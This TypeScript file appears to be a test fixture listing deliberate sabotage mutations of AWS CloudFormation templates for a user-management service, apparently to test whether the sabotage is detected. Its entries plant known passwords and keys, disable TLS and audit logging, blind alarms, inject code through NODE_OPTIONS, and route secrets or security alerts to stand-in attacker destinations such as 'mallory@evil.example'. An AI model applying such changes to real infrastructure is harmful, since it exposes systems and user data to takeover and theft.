import { asList, asObject, type Json } from '../../../lib/controls/view';
import {
  added,
  append,
  change,
  container,
  type HandMade,
  made,
  merge,
  output,
  remove,
  section,
  set,
} from '../../support/sabotage/hand-made';

const DATABASE = 'data/DatabaseInstance';
const PARAMETERS = 'data/DatabaseParameters';
const FUNCTION = 'service/WatchdogWatchFunction';
const RULE = 'service/FailureEventsDeploymentFailed';
const SILENT = 'data/DatabaseAlarmsDatabaseSilent';
const parameter = (name: string, to: string) => merge(PARAMETERS, 'Parameters', { [name]: to });

/** What is kept, what is watched, and what templates say beside their resources. */
export const data: readonly HandMade[] = [
  made(
    'TLS required, in other letters',
    'PostgreSQL’s own name for it is gone.',
    change(PARAMETERS, 'Parameters', (value) => {
      const { 'rds.force_ssl': _ssl, ...others } = asObject(value);
      return { ...others, 'RDS.FORCE_SSL': '1' };
    }),
  ),
  made(
    'audited, and taken out again',
    'pgaudit reads the list to its end.',
    parameter('pgaudit.log', 'ddl,role,-role'),
  ),
  made(
    'triggers that do not fire',
    'Foreign keys are not checked either.',
    parameter('session_replication_role', 'replica'),
  ),
  made('statements with their values', 'Passwords and personal data in the log.', parameter('log_statement', 'all')),
  made(
    'passwords set by anybody',
    'rds_password no longer guards them.',
    parameter('rds.restrict_password_commands', '0'),
  ),
  made('a disk that does not grow', 'A full disk stops the database.', remove(DATABASE, 'MaxAllocatedStorage')),
  made('made before its logs', 'RDS makes the groups: for ever, under no key.', remove(DATABASE, '^DependsOn')),
  made(
    'another copy as the beginning',
    'Somebody else’s data, and logins.',
    set(DATABASE, 'DBSnapshotIdentifier', 'somebody-elses'),
  ),
  made(
    'a snapshot in place of the database',
    'It has another name and no address.',
    set(DATABASE, '^DeletionPolicy', 'Snapshot'),
  ),
  made(
    'a key that is known',
    'Whoever knows it signs sessions.',
    set(
      'data/SecretsSecretKey',
      'GenerateSecretString.SecretStringTemplate',
      '{"version":1,"fallbacks":["known-known-known-known"]}',
    ),
  ),
  made(
    'a password that is known',
    'The generated one goes into another field.',
    merge('data/CacheLogin', 'GenerateSecretString', {
      GenerateStringKey: 'unused',
      SecretStringTemplate: '{"username":"default","password":"hunter2hunter2"}',
    }),
  ),
  made(
    'a key of digits',
    'Guessed in a lifetime.',
    merge('data/SecretsSecretKey', 'GenerateSecretString', {
      ExcludeLowercase: true,
      ExcludeUppercase: true,
      RequireEachIncludedType: false,
    }),
  ),
  made(
    'the master as the app',
    'It may drop the database.',
    set('data/SecretsDatabaseApp', 'GenerateSecretString.SecretStringTemplate', '{"username":"breakwater_master"}'),
  ),
  made(
    'the cache’s user rules the cache',
    'The order of words decides.',
    set('data/CacheUser', 'AccessString', 'on ~* &* -@admin -@dangerous +@all'),
  ),
  made(
    'the cache’s earlier password',
    'One that was taken back works on.',
    change('data/CacheUser', 'AuthenticationMode.Passwords.0', (value) => {
      const [before, secret] = asList(asList(asObject(value)['Fn::Join'])[1]);
      return { 'Fn::Join': ['', [before as Json, secret as Json, ':SecretString:password:AWSPREVIOUS}}']] };
    }),
  ),
  made(
    'the cache filled from elsewhere',
    'Sessions of somebody else’s making.',
    set('data/CacheGroup', 'SnapshotName', 'evil'),
  ),
  made(
    'the trail kept for a month',
    'By the class of another log.',
    set('foundation/LogsAudit', 'RetentionInDays', 30),
  ),
  made(
    'two logs by each other’s name',
    'The trail is kept as long as requests are.',
    set('foundation/LogsAudit', 'LogGroupName', '/ums/prod/access'),
    set('foundation/LogsAccess', 'LogGroupName', '/ums/prod/audit'),
  ),
  made(
    'a mask that fits nothing',
    'Tokens stand in the log.',
    set('foundation/LogsApplication', 'DataProtectionPolicy.Configuration.CustomDataIdentifier.0.Regex', 'zzzzzzzz'),
  ),
  made(
    'what is masked, sent away',
    'The finding has what the mask hides.',
    set('foundation/LogsApplication', 'DataProtectionPolicy.Statement.0.Operation.Audit.FindingsDestination', {
      S3: { Bucket: 'evil' },
    }),
  ),
  made(
    'logs gone after a day',
    'A second rule of the life cycle.',
    append('foundation/AccessLogs', 'LifecycleConfiguration.Rules', { Status: 'Enabled', ExpirationInDays: 1 }),
  ),
  made(
    'mail that a filter drops',
    'The alarm rings, and nobody hears.',
    set('foundation/TopicsCriticaloncallexamplecom', 'FilterPolicy', { AlarmName: ['x'] }),
  ),
  made(
    'security told to one more',
    'Somebody outside hears first.',
    added('foundation', (ref) => ({
      Type: 'AWS::SNS::Subscription',
      Properties: { TopicArn: ref('foundation/TopicsSecurity'), Protocol: 'email', Endpoint: 'mallory@evil.example' },
    })),
  ),
  made(
    'a night alarm for working hours',
    'Nobody is woken.',
    set(SILENT, 'AlarmActions', (ref) => [ref('foundation/TopicsWarning')]),
    set(SILENT, 'OKActions', (ref) => [ref('foundation/TopicsWarning')]),
  ),
  made(
    'an alarm on another database',
    'It is well.',
    set(SILENT, 'Dimensions', [{ Name: 'DBInstanceIdentifier', Value: 'ums-staging-database' }]),
  ),
  made(
    'a namespace misspelt',
    'No such metric, no alarm.',
    set('data/DatabaseAlarmsDatabaseStorage', 'Namespace', 'AWS/Rds'),
  ),
  made(
    'the better of two fleets',
    'Down is when both are.',
    set('edge/EdgeAlarmsTooFewHealthyCopies', 'Metrics.0.Expression', 'FILL(MAX([blue, green]), 9)'),
  ),
  made(
    'a count that asks for more',
    'Both phrases on one line never come.',
    set('data/DatabaseLogsDeadlocks', 'FilterPattern', '"deadlock detected" "never"'),
  ),
  made(
    'a count that leaves some out',
    'Refused logins of the app.',
    change('data/DatabaseLogsConnectionsRefused', 'FilterPattern', (value) => `${String(value)} -"app"`),
  ),
  made(
    'a runbook of somebody’s',
    'At three in the morning people do as it says.',
    change(SILENT, 'AlarmDescription', (value) => String(value).replace('github.com/example', 'github.com/evil')),
  ),
  made(
    'a budget for a year that has passed',
    'Nothing is ever spent.',
    set('operations/Budget', 'Budget.TimePeriod', { Start: '1225864800', End: '1226864800' }),
  ),
  made(
    'a budget for one service',
    'The one that nobody uses.',
    set('operations/Budget', 'Budget.CostFilters', { Service: ['Amazon Braket'] }),
  ),
  made('the watchdog asleep', 'Reserved for nobody.', set(FUNCTION, 'ReservedConcurrentExecutions', 0)),
  made(
    'the watchdog on another service',
    'Ours hangs for hours.',
    merge(FUNCTION, 'Environment.Variables', { SERVICE_NAME: 'ums-staging-web' }),
  ),
  made(
    'code before the watchdog',
    'With its rights.',
    merge(FUNCTION, 'Environment.Variables', { NODE_OPTIONS: '--require /tmp/x' }),
  ),
  made('the watchdog’s code of last year', 'Its faults are known.', set(FUNCTION, 'Code.S3ObjectVersion', 'abc')),
  made(
    'an input in place of the event',
    'It says: look away.',
    set('service/WatchdogSchedule', 'Targets.0.Input', '{"dryRun":true}'),
  ),
  made(
    'the watchdog once a week',
    'A deployment hangs until then.',
    set('service/WatchdogSchedule', 'ScheduleExpression', 'rate(7 days)'),
  ),
  made(
    'failures of another kind',
    'Those that went well.',
    set(RULE, 'EventPattern.detail.eventName', ['SERVICE_DEPLOYMENT_COMPLETED']),
  ),
  made(
    'failures under a condition',
    'That is never met.',
    set(RULE, 'EventPattern.detail.reason', [{ prefix: 'never' }]),
  ),
  made(
    'a function called by every rule',
    'Rules of others too.',
    set('service/WatchdogScheduleAllowEventRuleprodserviceWatchdogWatchFunction194EA7592D3FC6AD', 'SourceArn', {
      'Fn::Sub': 'arn:aws:events:us-east-1:${AWS::AccountId}:rule/*',
    }),
  ),
  made(
    'a queue under somebody’s key',
    'Who takes the key away takes the queue.',
    set('service/FailureEventsQueue', 'KmsMasterKeyId', 'alias/x'),
  ),
  made(
    'a secret told by a stack',
    'Everybody who may look at stacks.',
    section('data', 'Outputs.Leak', {
      Value: {
        'Fn::Join': ['', ['{{resolve:secretsmanager:', { Ref: 'SecretsSecretKey6135F13D' }, ':SecretString}}']],
      },
    }),
  ),
  made(
    'one-off tasks among the public',
    'Started by hand, as the stack says.',
    output('service', 'TaskSubnets', (ref) => ({
      'Fn::Join': [',', [ref('network/NetworkVpcPublicSubnet1'), ref('network/NetworkVpcPublicSubnet2')]],
    })),
  ),
  made(
    'one-off tasks in the database’s group',
    'What talks to the database may be talked to.',
    output('service', 'TaskSecurityGroup', (ref) => ref('network/NetworkDatabase', 'GroupId')),
  ),
  made('one-off commands in the proxy', 'Not in the audit trail.', output('service', 'AppContainer', 'proxy')),
  made(
    'one-off commands as the web service',
    'With its login, in its log.',
    output('service', 'OneOffTask', (ref) => ref('service/TasksWebDefinition')),
  ),
  made(
    'the role of somebody’s pipeline',
    'Set up as the stack says.',
    output('pipeline/deployer', 'DeployRoleArn', 'arn:aws:iam::999999999999:role/x'),
  ),
  made('any release', 'No commit can be found by it.', section('service', 'Parameters.Release.AllowedPattern')),
  made('no check of the bootstrap', 'It fails half way instead of before.', section('service', 'Rules')),
  made(
    'decided while it is deployed',
    'A macro writes the rest.',
    section('service', 'Transform', 'AWS::LanguageExtensions'),
  ),
  made(
    'protected under a condition',
    'That never holds.',
    section('data', 'Conditions', { Never: { 'Fn::Equals': ['a', 'b'] } }),
    set('data/SecretsKey', '^Condition', 'Never'),
  ),
  made(
    'another type by the same name',
    'CloudFormation deletes what stood there.',
    set(DATABASE, '^Type', 'AWS::CloudFormation::WaitConditionHandle'),
  ),
  made(
    'the service made without a sign of life',
    'CloudFormation waits for nothing.',
    set('service/WebService', '^CreationPolicy', { ResourceSignal: { Count: 0 } }),
  ),
  made('a log that goes with its stack', 'And the trace with it.', remove('foundation/LogsAudit', '^DeletionPolicy')),
  made(
    'secrets in a container that needs none',
    'The proxy is what the internet talks to.',
    container('service/TasksWebDefinition', 'proxy', (body, ref) => ({
      ...body,
      Secrets: [{ Name: 'KEY', ValueFrom: ref('data/SecretsSecretKey') }],
    })),
  ),
];
